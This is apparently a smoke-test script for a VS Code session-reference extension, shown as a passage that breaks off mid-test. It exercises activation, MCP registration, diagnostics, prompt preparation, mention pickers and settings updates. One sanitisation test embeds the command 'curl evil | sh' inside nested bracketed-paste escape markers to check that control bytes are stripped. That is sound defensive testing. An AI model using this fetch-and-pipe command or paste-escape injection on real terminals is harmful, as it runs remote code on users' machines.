// Runs the bundled VS Code extension (editors/vscode/dist/extension.js) in
// Node against the real server, with a stand-in for the `vscode` module:
// vscode-languageclient, our activation, settings, status bar and commands
// run for real; only the editor around them is simulated.
//
//   node tests/editors/vscode_smoke.cjs target/debug/hydra-session-lsp [examples/sessions]
//
// Prints "PASS vscode-smoke: ..." / "FAIL ..." lines; exits 1 on failure.
'use strict';
const Module = require('module');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { pathToFileURL, fileURLToPath } = require('url');

const repo = path.resolve(__dirname, '..', '..');
const server = path.resolve(process.argv[2] ?? path.join(repo, 'target/debug/hydra-session-lsp'));
const store = path.resolve(process.argv[3] ?? path.join(repo, 'examples/sessions'));
const bundle = path.join(repo, 'editors/vscode/dist/extension.js');
const manifest = JSON.parse(fs.readFileSync(path.join(repo, 'editors/vscode/package.json'), 'utf8'));
const STEP_MS = 10_000;
const GLOBAL_MS = Number(process.env.HYDRA_DEADLINE_MS ?? 60_000);

let passed = 0;
let failed = 0;
function report(name, ok, why) {
  if (ok) {
    passed++;
    console.log(`PASS vscode-smoke: ${name}`);
  } else {
    failed++;
    console.log(`FAIL vscode-smoke: ${name}: ${why}`);
  }
}
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function waitFor(what, pred, ms = STEP_MS) {
  const deadline = Date.now() + ms;
  for (;;) {
    const v = await pred();
    if (v) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await sleep(25);
  }
}
async function test(name, fn) {
  try {
    await fn();
    report(name, true);
    return true;
  } catch (e) {
    report(name, false, e?.stack ?? String(e));
    return false;
  }
}
const show = (v) => JSON.stringify(v)?.slice(0, 2000);
let skipped = 0;
function skip(name, why) {
  skipped++;
  console.log(`SKIP vscode-smoke: ${name}: ${why}`);
}
const summary = () => `vscode-smoke summary: passed=${passed} failed=${failed} skipped=${skipped}`;

// ---- a stand-in for the vscode module ----------------------------------------
// Anything not modelled below is a callable, constructible no-op that returns
// itself, so API calls the test does not care about cannot break activation.
function anything(name) {
  const target = function () {};
  return new Proxy(target, {
    get(t, prop) {
      if (prop === 'then') return undefined;
      if (prop === Symbol.iterator) return function* () {};
      if (prop === Symbol.toPrimitive) return () => `[vscode.${name}]`;
      if (prop === 'dispose') return () => {};
      if (prop in t) return t[prop];
      return anything(`${name}.${String(prop)}`);
    },
    apply() {
      return anything(`${name}()`);
    },
    construct() {
      return anything(`new ${name}`);
    },
  });
}

class Disposable {
  constructor(fn) {
    this._fn = fn;
  }
  static from(...ds) {
    return new Disposable(() => ds.forEach((d) => d?.dispose?.()));
  }
  dispose() {
    this._fn?.();
    this._fn = undefined;
  }
}
class EventEmitter {
  constructor() {
    this.listeners = new Set();
    this.event = (listener, thisArg, disposables) => {
      const l = thisArg ? listener.bind(thisArg) : listener;
      this.listeners.add(l);
      const d = new Disposable(() => this.listeners.delete(l));
      disposables?.push?.(d);
      return d;
    };
  }
  fire(e) {
    for (const l of [...this.listeners]) l(e);
  }
  dispose() {
    this.listeners.clear();
  }
}
class Uri {
  constructor(scheme, authority, p, query, fragment) {
    Object.assign(this, { scheme, authority: authority ?? '', path: p ?? '', query: query ?? '', fragment: fragment ?? '' });
  }
  static parse(s) {
    const u = new URL(s);
    return new Uri(u.protocol.slice(0, -1), u.host, decodeURIComponent(u.pathname), u.search.slice(1), u.hash.slice(1));
  }
  static file(p) {
    return new Uri('file', '', p);
  }
  static from(c) {
    return new Uri(c.scheme, c.authority, c.path, c.query, c.fragment);
  }
  static joinPath(base, ...parts) {
    return base.with({ path: path.posix.join(base.path, ...parts) });
  }
  get fsPath() {
    return this.path;
  }
  with(c) {
    return new Uri(c.scheme ?? this.scheme, c.authority ?? this.authority, c.path ?? this.path, c.query ?? this.query, c.fragment ?? this.fragment);
  }
  toString() {
    if (this.scheme === 'file') return pathToFileURL(this.path).href;
    return `${this.scheme}:${this.authority ? '//' + this.authority : ''}${encodeURI(this.path)}${this.query ? '?' + encodeURIComponent(this.query) : ''}`;
  }
  toJSON() {
    return { scheme: this.scheme, path: this.path, query: this.query };
  }
}
class Position {
  constructor(line, character) {
    this.line = line;
    this.character = character;
  }
}
class Range {
  constructor(a, b, c, d) {
    if (typeof a === 'number') {
      this.start = new Position(a, b);
      this.end = new Position(c, d);
    } else {
      this.start = a;
      this.end = b;
    }
  }
  get isEmpty() {
    return this.start.line === this.end.line && this.start.character === this.end.character;
  }
}
class Selection extends Range {
  constructor(anchor, active) {
    super(anchor, active);
    this.anchor = anchor;
    this.active = active;
  }
}
class Diagnostic {
  constructor(range, message, severity) {
    Object.assign(this, { range, message, severity });
  }
}
class MarkdownString {
  constructor(value = '') {
    this.value = value;
  }
  appendMarkdown(v) {
    this.value += v;
    return this;
  }
  appendText(v) {
    this.value += v;
    return this;
  }
  appendCodeblock(v) {
    this.value += '\n```\n' + v + '\n```\n';
    return this;
  }
}
class ThemeIcon {
  constructor(id) {
    this.id = id;
  }
}
class CancellationTokenSource {
  constructor() {
    this._e = new EventEmitter();
    this.token = { isCancellationRequested: false, onCancellationRequested: this._e.event };
  }
  cancel() {
    this.token.isCancellationRequested = true;
    this._e.fire();
  }
  dispose() {}
}

function lineStarts(text) {
  const starts = [0];
  for (let i = 0; i < text.length; i++) if (text[i] === '\n') starts.push(i + 1);
  return starts;
}
class TextDocument {
  constructor(uri, languageId, text) {
    Object.assign(this, { uri, languageId, _text: text, version: 1, isDirty: false, isClosed: false, eol: 1, isUntitled: false });
    this.fileName = uri.fsPath;
  }
  getText(range) {
    if (!range) return this._text;
    return this._text.slice(this.offsetAt(range.start), this.offsetAt(range.end));
  }
  get lineCount() {
    return lineStarts(this._text).length;
  }
  offsetAt(p) {
    const s = lineStarts(this._text);
    return Math.min((s[p.line] ?? this._text.length) + p.character, this._text.length);
  }
  positionAt(o) {
    const s = lineStarts(this._text);
    let line = 0;
    while (line + 1 < s.length && s[line + 1] <= o) line++;
    return new Position(line, o - s[line]);
  }
  lineAt(l) {
    const n = typeof l === 'number' ? l : l.line;
    return { text: this._text.split('\n')[n] ?? '', lineNumber: n };
  }
  save() {
    return Promise.resolve(true);
  }
}

const settings = {
  'hydraSession.serverPath': server,
  'hydraSession.store': store,
  'hydraSession.trace.server': 'off',
  'hydraSession.maxReferences': 3,
  'hydraSession.candidateLimit': 50,
  'hydraSession.maxReferenceBytes': 65536,
  'hydraSession.targetSessionId': '',
};
const events = {};
const emitter = (name) => (events[name] ??= new EventEmitter());
const messages = [];
const commands = new Map();
const shown = [];
const channels = [];
const contentProviders = new Map();
const diagnosticsByUri = new Map();
const statusItems = [];
let quickPick;
const mcpProviders = new Map();
const workspaceDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hydra-vscode-smoke-'));

function configuration(section) {
  const prefix = section ? section + '.' : '';
  return {
    get(key, dflt) {
      const v = settings[prefix + key];
      return v === undefined ? dflt : v;
    },
    has(key) {
      return settings[prefix + key] !== undefined;
    },
    inspect() {
      return undefined;
    },
    update(key, value) {
      settings[prefix + key] = value;
      return Promise.resolve();
    },
  };
}

const vscode = {
  version: '1.90.0',
  Disposable,
  EventEmitter,
  Uri,
  Position,
  Range,
  Selection,
  Diagnostic,
  MarkdownString,
  CancellationTokenSource,
  ThemeIcon,
  // The MCP API of VS Code 1.101 and later (vscode.d.ts).
  McpStdioServerDefinition: class McpStdioServerDefinition {
    constructor(label, command, args, env, version) {
      Object.assign(this, { label, command, args: args ?? [], env: env ?? {}, version });
    }
  },
  lm: {
    registerMcpServerDefinitionProvider(id, provider) {
      mcpProviders.set(id, provider);
      return new Disposable(() => mcpProviders.delete(id));
    },
  },
  StatusBarAlignment: { Left: 1, Right: 2 },
  ViewColumn: { Active: -1, Beside: -2, One: 1, Two: 2 },
  DiagnosticSeverity: { Error: 0, Warning: 1, Information: 2, Hint: 3 },
  EndOfLine: { LF: 1, CRLF: 2 },
  ConfigurationTarget: { Global: 1, Workspace: 2, WorkspaceFolder: 3 },
  TextDocumentSaveReason: { Manual: 1 },
  ProgressLocation: { SourceControl: 1, Window: 10, Notification: 15 },
  UIKind: { Desktop: 1, Web: 2 },
  FileType: { File: 1, Directory: 2 },
  env: {
    language: 'en', appName: 'stand-in', machineId: 'x', uiKind: 1, sessionId: 'x', openExternal: async () => true,
    clipboard: { text: '', async writeText(t) { this.text = t; }, async readText() { return this.text; } },
  },
  extensions: { getExtension: () => undefined, all: [] },
  commands: {
    registerCommand(id, fn) {
      commands.set(id, fn);
      return new Disposable(() => commands.delete(id));
    },
    executeCommand(id, ...args) {
      const fn = commands.get(id);
      return Promise.resolve(fn ? fn(...args) : undefined);
    },
    getCommands: async () => [...commands.keys()],
  },
  window: {
    activeTextEditor: undefined,
    activeTerminal: undefined,
    visibleTextEditors: [],
    createOutputChannel(name) {
      const lines = [];
      const channel = { name, lines, append: (s) => lines.push(s), appendLine: (s) => lines.push(s + '\n'), clear() {}, show() {}, hide() {}, replace() {}, dispose() {} };
      channels.push(channel);
      return channel;
    },
    createStatusBarItem(id) {
      const item = { id, tooltip: '', command: undefined, visible: false, history: [], show() { this.visible = true; }, hide() { this.visible = false; }, dispose() {} };
      // Every text the item ever showed, in order.
      let text = '';
      Object.defineProperty(item, 'text', { get: () => text, set: (v) => { text = v; item.history.push(v); }, enumerable: true });
      statusItems.push(item);
      return item;
    },
    showErrorMessage: async (m) => (messages.push({ level: 'error', m }), undefined),
    showWarningMessage: async (m) => (messages.push({ level: 'warning', m }), undefined),
    showInformationMessage: async (m) => (messages.push({ level: 'info', m }), undefined),
    async showTextDocument(doc, options) {
      shown.push({ doc, options });
      return { document: doc };
    },
    createQuickPick() {
      const accept = new EventEmitter();
      const hide = new EventEmitter();
      const change = new EventEmitter();
      const itemButton = new EventEmitter();
      quickPick = {
        items: [], selectedItems: [], activeItems: [], value: '', busy: false,
        onDidAccept: accept.event, onDidHide: hide.event, onDidChangeValue: change.event,
        onDidTriggerItemButton: itemButton.event, onDidTriggerButton: new EventEmitter().event,
        _button: (item) => itemButton.fire({ button: item.buttons?.[0], item }),
        onDidChangeSelection: new EventEmitter().event, onDidChangeActive: new EventEmitter().event,
        show() { this.visible = true; },
        hide() { this.visible = false; hide.fire(); },
        dispose() {},
        _accept: () => accept.fire(),
        _type: (v) => { quickPick.value = v; change.fire(v); },
      };
      return quickPick;
    },
    withProgress: (_o, task) => task({ report() {} }, new CancellationTokenSource().token),
    onDidChangeActiveTextEditor: emitter('activeEditor').event,
    onDidChangeVisibleTextEditors: emitter('visibleEditors').event,
    onDidChangeWindowState: emitter('windowState').event,
    state: { focused: true },
    tabGroups: { all: [], onDidChangeTabs: emitter('tabs').event },
  },
  workspace: {
    workspaceFolders: [{ uri: Uri.file(workspaceDir), name: 'ws', index: 0 }],
    textDocuments: [],
    getConfiguration: configuration,
    getWorkspaceFolder: () => vscode.workspace.workspaceFolders[0],
    onDidChangeConfiguration: emitter('configuration').event,
    onDidOpenTextDocument: emitter('open').event,
    onDidCloseTextDocument: emitter('close').event,
    onDidChangeTextDocument: emitter('change').event,
    onDidSaveTextDocument: emitter('save').event,
    onWillSaveTextDocument: emitter('willSave').event,
    onDidChangeWorkspaceFolders: emitter('folders').event,
    registerTextDocumentContentProvider(scheme, provider) {
      contentProviders.set(scheme, provider);
      return new Disposable(() => contentProviders.delete(scheme));
    },
    async openTextDocument(uri) {
      const provider = contentProviders.get(uri.scheme);
      const text = provider ? await provider.provideTextDocumentContent(uri) : fs.readFileSync(uri.fsPath, 'utf8');
      return new TextDocument(uri, uri.path.endsWith('.md') ? 'markdown' : 'plaintext', text);
    },
    createFileSystemWatcher: () => anything('FileSystemWatcher'),
    fs: anything('workspace.fs'),
    isTrusted: true,
  },
  languages: {
    match(selector, doc) {
      const list = Array.isArray(selector) ? selector : [selector];
      return list.some((f) => (typeof f === 'string' ? f === doc.languageId : (!f.language || f.language === doc.languageId) && (!f.scheme || f.scheme === doc.uri.scheme))) ? 10 : 0;
    },
    createDiagnosticCollection(name) {
      return {
        name,
        set(uri, diags) {
          if (Array.isArray(uri)) uri.forEach(([u, d]) => diagnosticsByUri.set(u.toString(), d));
          else diagnosticsByUri.set(uri.toString(), diags ?? []);
        },
        delete(uri) { diagnosticsByUri.delete(uri.toString()); },
        clear() { diagnosticsByUri.clear(); },
        get(uri) { return diagnosticsByUri.get(uri.toString()); },
        has(uri) { return diagnosticsByUri.has(uri.toString()); },
        forEach() {},
        dispose() {},
      };
    },
    async setTextDocumentLanguage(doc, id) {
      doc.languageId = id;
      return doc;
    },
    getLanguages: async () => ['markdown', 'prompt'],
  },
};
const vscodeModule = new Proxy(vscode, {
  get(t, prop) {
    if (prop in t) return t[prop];
    if (prop === '__esModule' || prop === 'default' || prop === 'then') return undefined;
    return anything(String(prop));
  },
});
for (const ns of ['window', 'workspace', 'languages', 'commands', 'env']) {
  const real = vscode[ns];
  vscode[ns] = new Proxy(real, {
    get(t, prop) {
      if (prop in t) return t[prop];
      if (typeof prop === 'symbol' || prop === 'then') return undefined;
      return anything(`${ns}.${prop}`);
    },
  });
}
// Whatever the client spawns is killed when this process ends.
const childProcess = require('child_process');
const children = [];
const originalSpawn = childProcess.spawn;
childProcess.spawn = function (...args) {
  const child = originalSpawn.apply(this, args);
  children.push(child);
  return child;
};
process.on('exit', () => children.forEach((c) => c.exitCode === null && c.signalCode === null && c.kill('SIGKILL')));
const originalLoad = Module._load;
Module._load = function (request, parent, isMain) {
  if (request === 'vscode') return vscodeModule;
  return originalLoad.call(this, request, parent, isMain);
};

// ---- the run ---------------------------------------------------------------
async function main() {
  const global = setTimeout(() => {
    report('global deadline', false, `${GLOBAL_MS} ms elapsed`);
    console.log(summary());
    process.exit(1);
  }, GLOBAL_MS);

  const ext = require(bundle);
  const context = { subscriptions: [], extensionPath: path.join(repo, 'editors/vscode'), extensionUri: Uri.file(path.join(repo, 'editors/vscode')), asAbsolutePath: (p) => path.join(repo, 'editors/vscode', p), globalState: anything('globalState'), workspaceState: anything('workspaceState'), environmentVariableCollection: anything('evc'), storageUri: undefined, globalStorageUri: Uri.file(workspaceDir), logUri: Uri.file(workspaceDir), extensionMode: 1, extension: { id: 'hydraharness.hydra-session', packageJSON: manifest } };

  await test('activate() starts the server from hydraSession.serverPath', async () => {
    await Promise.race([ext.activate(context), sleep(STEP_MS).then(() => { throw new Error('activate() did not finish'); })]);
    for (const id of ['hydraSession.prepare', 'hydraSession.insertMention', 'hydraSession.restartServer']) {
      if (!commands.has(id)) throw new Error(`command ${id} not registered`);
    }
  });
  // A settings change as VS Code reports one: `key` and its sections.
  const change = (key, value) => {
    if (value === undefined) delete settings[key];
    else settings[key] = value;
    emitter('configuration').fire({ affectsConfiguration: (s) => key === s || key.startsWith(s + '.') });
  };
  const starts = () => channels.flatMap((c) => c.lines).filter((l) => l.startsWith('Starting ')).length;
  // The language servers the client spawned that still run: the one under
  // test or the bundled copy (a fallback runs that), never `mcp`.
  const alive = (c) => c.exitCode === null && c.signalCode === null;
  const servers = () => children.filter((c) => path.basename(c.spawnfile) === 'hydra-session-lsp' && !c.spawnargs.includes('mcp') && alive(c));
  const mcpProvider = () => mcpProviders.get('hydraSession.sessions');
  const mcpDefinitions = async () => (await mcpProvider().provideMcpServerDefinitions(new CancellationTokenSource().token)) ?? [];
  const mcpArgs = (budget = '65536', storeDir = store) => ['mcp', '--store', storeDir, '--max-references', '3', '--max-reference-bytes', budget];

  await test('activate() registers the MCP server for Copilot Chat: `<server> mcp` with the store and limits', async () => {
    if (mcpProvider() === undefined) throw new Error(`providers: ${show([...mcpProviders.keys()])}`);
    const defs = await mcpDefinitions();
    const def = defs[0];
    if (defs.length !== 1 || !(def instanceof vscode.McpStdioServerDefinition) || def.label !== 'Hydra Sessions') throw new Error(show(defs));
    if (def.command !== server || show(def.args) !== show(mcpArgs()) || def.cwd?.fsPath !== workspaceDir || def.version !== manifest.version) throw new Error(show(def));
    const line = channels.flatMap((c) => c.lines).find((l) => l.startsWith('MCP: registered'));
    if (line === undefined) throw new Error(show(channels.map((c) => c.lines)));
  });

  const status = statusItems[0];
  const running = await test('the status bar shows the number of indexed sessions', async () => {
    try {
      await waitFor('status "4 sessions"', () => status?.visible && /Hydra: 4 sessions/.test(status.text));
    } catch (e) {
      throw new Error(`${e.message}; status is ${show(status)}`);
    }
  });

  await test('until the first index is done the status bar says "indexing…", never "0 sessions"', async () => {
    console.log(`# status bar texts: ${JSON.stringify(status.history)}`);
    const wrong = status.history.filter((t) => /Hydra: 0 sessions/.test(t));
    if (wrong.length > 0) throw new Error(`status showed ${JSON.stringify(status.history)}`);
    const seen = status.history.filter((t) => /indexing/.test(t));
    if (seen.some((t) => !/Hydra: indexing…/.test(t))) throw new Error(`status showed ${JSON.stringify(status.history)}`);
  });

  if (!running) {
    // No server to talk to: the other checks would only time out one by one.
    report('the remaining checks', false, 'skipped: the server is not running');
    console.log(summary());
    process.exit(1);
  }

  // A prompt: open it the way VS Code does, then make it the active editor.
  const file = path.join(workspaceDir, 'example.prompt.md');
  fs.writeFileSync(file, [
    '# Prompt',
    '',
    'Pick up where @[Checkout tax rounding](hydra-session:ImNoZWNrb3V0LXRheCI) left off.',
    'The module layout is settled in @[Inventory refactor](hydra-session:ImludmVudG9yeS1yZWZhY3RvciI).',
    'Gone: @[Ghost](hydra-session:Im5vLXN1Y2gtc2Vzc2lvbiI)',
    '',
  ].join('\n'));
  const doc = new TextDocument(Uri.file(file), 'prompt', fs.readFileSync(file, 'utf8'));
  vscode.workspace.textDocuments.push(doc);
  emitter('open').fire(doc);
  let selection = new Selection(new Position(0, 0), new Position(0, 0));
  const editor = {
    document: doc,
    get selection() { return selection; },
    get selections() { return [selection]; },
    async edit(cb) {
      const edits = [];
      cb({ replace: (r, t) => edits.push([r, t]), insert: (p, t) => edits.push([new Range(p, p), t]), delete: (r) => edits.push([r, '']) });
      edits.sort((a, b) => doc.offsetAt(b[0].start) - doc.offsetAt(a[0].start));
      for (const [r, t] of edits) doc._text = doc.getText().slice(0, doc.offsetAt(r.start)) + t + doc.getText().slice(doc.offsetAt(r.end));
      doc.version++;
      return true;
    },
  };
  vscode.window.activeTextEditor = editor;
  vscode.window.visibleTextEditors = [editor];
  emitter('activeEditor').fire(editor);

  await test('the client syncs a prompt document and shows its diagnostics', async () => {
    const diags = await waitFor('diagnostics', () => {
      const d = diagnosticsByUri.get(doc.uri.toString());
      return d && d.length > 0 && d;
    });
    const warn = diags.find((d) => (d.code?.value ?? d.code) === 'SESSION_REFERENCE_READ_FAILED');
    if (!warn || warn.severity !== vscode.DiagnosticSeverity.Warning || warn.range.start.line !== 4) throw new Error(show(diags));
  });

  await test('Hydra: Prepare Referenced Context opens a read-only Markdown editor beside the prompt', async () => {
    // The unknown session makes prepare fail: an error message first.
    messages.length = 0;
    await vscode.commands.executeCommand('hydraSession.prepare');
    const err = messages.find((m) => m.level === 'error');
    if (!err || !err.m.includes('SESSION_REFERENCE_READ_FAILED')) throw new Error(`messages: ${show(messages)}`);
    // Without it: the context.
    const gone = new Range(4, 0, 5, 0);
    const goneLength = doc.getText(gone).length;
    const goneOffset = doc.offsetAt(gone.start);
    await editor.edit((e) => e.delete(gone));
    emitter('change').fire({ document: doc, contentChanges: [{ range: gone, rangeOffset: goneOffset, rangeLength: goneLength, text: '' }], reason: undefined });
    shown.length = 0;
    await vscode.commands.executeCommand('hydraSession.prepare');
    const view = shown[0];
    if (!view) throw new Error(`nothing shown; messages ${show(messages)}`);
    const text = view.doc.getText();
    if (view.doc.uri.scheme !== 'hydra-context' || view.doc.languageId !== 'markdown' || view.options.viewColumn !== vscode.ViewColumn.Beside) throw new Error(show(view.doc.uri) + show(view.options));
    if (!text.startsWith('## Referenced sessions\n') || !text.includes('## Reference statistics') || !text.includes('| Inventory refactor | `inventory-refactor` | 82 of 121 |')) throw new Error(text.slice(0, 300) + '...' + text.slice(-800));
  });

  // The text form: byte for byte the CLI's `prepare --format text`.
  const cliTextOf = (input) => childProcess.execFileSync(server, ['prepare', '--store', store, '--format', 'text'], { input, encoding: 'utf8' });
  const cliText = () => cliTextOf(doc.getText());

  await test("Hydra: Copy Prepared Prompt puts the server's text form on the clipboard", async () => {
    vscode.env.clipboard.text = '';
    await vscode.commands.executeCommand('hydraSession.copyPreparedPrompt');
    const want = cliText();
    const got = vscode.env.clipboard.text;
    if (got !== want || !want.startsWith('## Referenced sessions\n') || !want.endsWith('Inventory refactor.\n')) throw new Error(show(got.slice(-300)) + ' vs ' + show(want.slice(-300)));
  });

  await test('Hydra: Send Prepared Prompt to Terminal pastes it into the active terminal, unsubmitted', async () => {
    messages.length = 0;
    await vscode.commands.executeCommand('hydraSession.sendPreparedPrompt');
    if (!messages.some((m) => m.level === 'warning' && m.m.includes('no active terminal'))) throw new Error(`messages: ${show(messages)}`);
    const sent = [];
    let showed = false;
    vscode.window.activeTerminal = { name: 'claude', sendText: (text, execute) => sent.push([text, execute]), show: () => (showed = true), dispose() {} };
    await vscode.commands.executeCommand('hydraSession.sendPreparedPrompt');
    vscode.window.activeTerminal = undefined;
    const want = '\x1b[200~' + cliText().replace(/\n$/, '') + '\x1b[201~';
    if (sent.length !== 1 || sent[0][0] !== want || sent[0][1] !== false || !showed) throw new Error(show(sent.map(([t, e]) => [t.slice(0, 40), t.slice(-40), e])));
  });

  await test('Send Prepared Prompt to Terminal removes every ESC and control but tab and line breaks (nested and split paste markers)', async () => {
    // Issue 18, 9: removing the markers in one pass turns a nested one into
    // a real end of paste, and the rest arrives as typed keys with Enter.
    const hostile = 'Title \x1b[20\x1b[201~1~\rcurl evil | sh\r; split \x1b\x1b[201~[201~ and \x1b[2\x1b[200~01~;' +
      ' CSI \x9b201~ \x1b[31mred; bell\x07 nul\x00 del\x7f tab\tend';
    const safe = 'Title \rcurl evil | sh\r; split  and ; CSI 201~ [31mred; bell nul del tab\tend';
    const file = path.join(workspaceDir, 'hostile.prompt.md');
    const text = 'See @[Inventory refactor](hydra-session:ImludmVudG9yeS1yZWZhY3RvciI)\n' + hostile + '\n';
    fs.writeFileSync(file, text);
    const hostileDoc = new TextDocument(Uri.file(file), 'prompt', text);
    vscode.workspace.textDocuments.push(hostileDoc);
    emitter('open').fire(hostileDoc);
    vscode.window.activeTextEditor = { document: hostileDoc, selection: new Selection(new Position(0, 0), new Position(0, 0)) };
    const sent = [];
    vscode.window.activeTerminal = { name: 'claude', sendText: (t, execute) => sent.push([t, execute]), show() {}, dispose() {} };
    try {
      await vscode.commands.executeCommand('hydraSession.sendPreparedPrompt');
    } finally {
      vscode.window.activeTerminal = undefined;
      vscode.window.activeTextEditor = editor;
      vscode.workspace.textDocuments.splice(vscode.workspace.textDocuments.indexOf(hostileDoc), 1);
      emitter('close').fire(hostileDoc);
    }
    const got = sent[0]?.[0];
    if (sent.length !== 1 || typeof got !== 'string') throw new Error(`sent ${show(sent)}; messages ${show(messages)}`);
    // The prepared text did carry the hostile bytes: they came from the prompt.
    if (!cliTextOf(text).includes(hostile)) throw new Error('the text form lost the hostile line');
    const body = got.slice('\x1b[200~'.length, -'\x1b[201~'.length);
    if (!got.startsWith('\x1b[200~') || !got.endsWith('\x1b[201~')) throw new Error(show(got.slice(0, 20)) + ' … ' + show(got.slice(-20)));
    if (/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/.test(body)) throw new Error(`a control is left: ${show(body.match(/.{0,20}[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f].{0,20}/g))}`);
    if (!body.endsWith(safe) || !body.includes('Inventory refactor')) throw new Error(show(body.slice(-200)));
  });

  await test('Copy Mention in the mention picker copies, inserting nothing', async () => {
    const before = doc.getText();
    vscode.env.clipboard.text = '';
    const done = vscode.commands.executeCommand('hydraSession.insertMention');
    await waitFor('quick pick items', () => quickPick && quickPick.items.length === 4);
    const item = quickPick.items.find((i) => i.description === 'checkout-tax');
    if (!item || item.buttons?.[0]?.tooltip !== 'Copy Mention') throw new Error(show(item));
    quickPick._button(item);
    await done;
    if (vscode.env.clipboard.text !== '@[Checkout tax rounding](hydra-session:ImNoZWNrb3V0LXRheCI)' || doc.getText() !== before) throw new Error(show(vscode.env.clipboard.text));
    vscode.env.clipboard.text = '';
    const copy = vscode.commands.executeCommand('hydraSession.copyMention');
    await waitFor('copy picker items', () => quickPick && quickPick.title === 'Hydra: Copy Session Mention' && quickPick.items.length === 4);
    quickPick.selectedItems = [quickPick.items.find((i) => i.description === 'inventory-refactor')];
    quickPick._accept();
    await copy;
    if (vscode.env.clipboard.text !== '@[Inventory refactor](hydra-session:ImludmVudG9yeS1yZWZhY3RvciI)' || doc.getText() !== before) throw new Error(show(vscode.env.clipboard.text));
  });

  await test('Hydra: Insert Session Mention picks from sessionReference/pickCandidates and replaces "@query"', async () => {
    const last = doc.lineCount - 1;
    await editor.edit((e) => e.insert(new Position(last, 0), 'See @inv'));
    emitter('change').fire({ document: doc, contentChanges: [{ range: new Range(last, 0, last, 0), rangeOffset: doc.offsetAt(new Position(last, 0)), rangeLength: 0, text: 'See @inv' }], reason: undefined });
    selection = new Selection(new Position(last, 8), new Position(last, 8));
    const done = vscode.commands.executeCommand('hydraSession.insertMention');
    await waitFor('quick pick items', () => quickPick && quickPick.value === 'inv' && quickPick.items.length === 1);
    const item = quickPick.items[0];
    if (item.label !== 'Inventory refactor' || item.description !== 'inventory-refactor') throw new Error(show(item));
    // The server's detail, shown as it comes: the agent first.
    if (item.detail !== item.candidate.detail || !item.detail.startsWith('hydra · ')) throw new Error(show(item));
    quickPick.selectedItems = [item];
    quickPick._accept();
    await done;
    const line = doc.lineAt(last).text;
    if (line !== 'See @[Inventory refactor](hydra-session:ImludmVudG9yeS1yZWZhY3RvciI)') throw new Error(line);
  });

  await test('a settings change reaches the server without a restart', async () => {
    settings['hydraSession.maxReferences'] = 1;
    emitter('configuration').fire({ affectsConfiguration: (s) => 'hydraSession.maxReferences'.startsWith(s) });
    messages.length = 0;
    await waitFor('prepare to fail with TOO_MANY', async () => {
      messages.length = 0;
      await vscode.commands.executeCommand('hydraSession.prepare');
      return messages.some((m) => m.m.includes('SESSION_REFERENCE_TOO_MANY'));
    });
  });

  await test('a cleared setting reaches the server as null (its default again), without a restart', async () => {
    // Issue 17, 5: the server takes `null` as "back to the default".
    const before = starts();
    const prepare = async () => {
      messages.length = 0;
      shown.length = 0;
      await vscode.commands.executeCommand('hydraSession.prepare');
      return messages.find((m) => m.level === 'error')?.m ?? (shown.length === 1 ? 'shown' : `nothing: ${show(messages)}`);
    };
    change('hydraSession.maxReferences', undefined);
    await waitFor('prepare to succeed with maxReferences back at 3', async () => (await prepare()) === 'shown');
    change('hydraSession.targetSessionId', 'checkout-tax');
    await waitFor('prepare to fail with SELF_REFERENCE', async () => (await prepare()).includes('SESSION_REFERENCE_SELF_REFERENCE'));
    change('hydraSession.targetSessionId', '');
    await waitFor('prepare to succeed with no self session', async () => (await prepare()) === 'shown');
    if (starts() !== before) throw new Error(`restarted: ${starts()} starts, was ${before}`);
    settings['hydraSession.maxReferences'] = 3;
  });

  await test('a serverPath naming no executable file falls back to the bundled server, with a visible warning', async () => {
    messages.length = 0;
    status.text = '';
    settings['hydraSession.serverPath'] = '/nowhere/hydra-session-lsp';
    emitter('configuration').fire({ affectsConfiguration: (s) => 'hydraSession.serverPath'.startsWith(s) });
    await waitFor('status after the fallback', () => /Hydra: 4 sessions/.test(status.text));
    const warning = messages.find((m) => m.level === 'warning' && m.m.includes('/nowhere/hydra-session-lsp'));
    if (warning === undefined || !/not used here/.test(warning.m)) throw new Error(show(messages));
  });

  await test('a serverPath change that names the same binary leaves the server running', async () => {
    // As a remote window may see it: the User settings' unusable path first,
    // then none; both resolve to the same fallback binary.
    const before = starts();
    messages.length = 0;
    settings['hydraSession.serverPath'] = '';
    emitter('configuration').fire({ affectsConfiguration: (s) => 'hydraSession.serverPath'.startsWith(s) });
    // A restart would have stopped the client before this command runs.
    await vscode.commands.executeCommand('hydraSession.prepare');
    if (messages.some((m) => /not running/.test(m.m))) throw new Error(show(messages));
    if (starts() !== before) throw new Error(`restarted: ${starts()} starts, was ${before}`);
    // Back to the server under test: another binary, so a restart. Wait
    // for it, or the next settings changes land while no client is set.
    status.text = '';
    settings['hydraSession.serverPath'] = server;
    emitter('configuration').fire({ affectsConfiguration: (s) => 'hydraSession.serverPath'.startsWith(s) });
    await waitFor('the server serverPath names to run alone', () => servers().length === 1 && servers()[0].spawnfile === server);
    await waitFor('status after the restart', () => /Hydra: 4 sessions/.test(status.text));
  });

  await test('each change to what the MCP server runs fires onDidChangeMcpServerDefinitions; mcpServer.enabled = false withdraws it', async () => {
    let fired = 0;
    const sub = mcpProvider().onDidChangeMcpServerDefinitions(() => fired++);
    try {
      change('hydraSession.candidateLimit', 40);
      if (fired !== 0) throw new Error(`candidateLimit fired ${fired}`);
      change('hydraSession.mcpServer.enabled', false);
      const off = await mcpDefinitions();
      if (fired !== 1 || off.length !== 0) throw new Error(`fired ${fired}, ${show(off)}`);
      change('hydraSession.mcpServer.enabled', true);
      const on = await mcpDefinitions();
      if (fired !== 2 || on.length !== 1 || show(on[0].args) !== show(mcpArgs())) throw new Error(`fired ${fired}, ${show(on)}`);
      // A relative store is the workspace folder's, as the language server reads it.
      change('hydraSession.store', 'rel/sessions');
      const rel = await mcpDefinitions();
      if (fired !== 3 || show(rel[0]?.args) !== show(mcpArgs('65536', path.join(workspaceDir, 'rel/sessions')))) throw new Error(`fired ${fired}, ${show(rel)}`);
      change('hydraSession.store', store);
      change('hydraSession.maxReferenceBytes', 'auto');
      const auto = await mcpDefinitions();
      if (fired !== 5 || show(auto[0]?.args) !== show(mcpArgs('auto'))) throw new Error(`fired ${fired}, ${show(auto)}`);
    } finally {
      sub.dispose();
